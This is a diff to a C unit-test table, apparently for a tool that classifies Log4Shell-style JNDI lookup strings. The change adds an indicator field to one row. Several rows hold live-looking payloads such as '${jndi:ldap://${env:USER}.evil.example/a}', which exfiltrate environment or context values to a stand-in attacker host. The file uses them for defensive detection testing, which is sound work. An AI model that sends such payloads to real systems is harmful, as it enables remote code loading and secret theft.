@@ -117,7 +117,7 @@ static void conditional_and_leaking(void **state)
 {
     static const struct judge_row rows[] = {
         ROW("${jndi:ldap://${env:USER}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
-            .conditions = "env:USER", .fires = FIRES_2_8),
+            .conditions = "env:USER", .fires = FIRES_2_8, .indicators = "ldap://caltropvalue.evil.example:389/a"),
         ROW("${jndi:ldap://${ctx:tenant}.evil.example/a}", "exploit", .certainty = "conditional", .traits = "leak dos conditional",
             .conditions = "ctx:tenant", .fires = FIRES_2_8),
         ROW("${jndi:ldap://${sys:app.name}:${env:PORT:-1389}/a}", "exploit", .certainty = "conditional", .traits = "leak conditional",
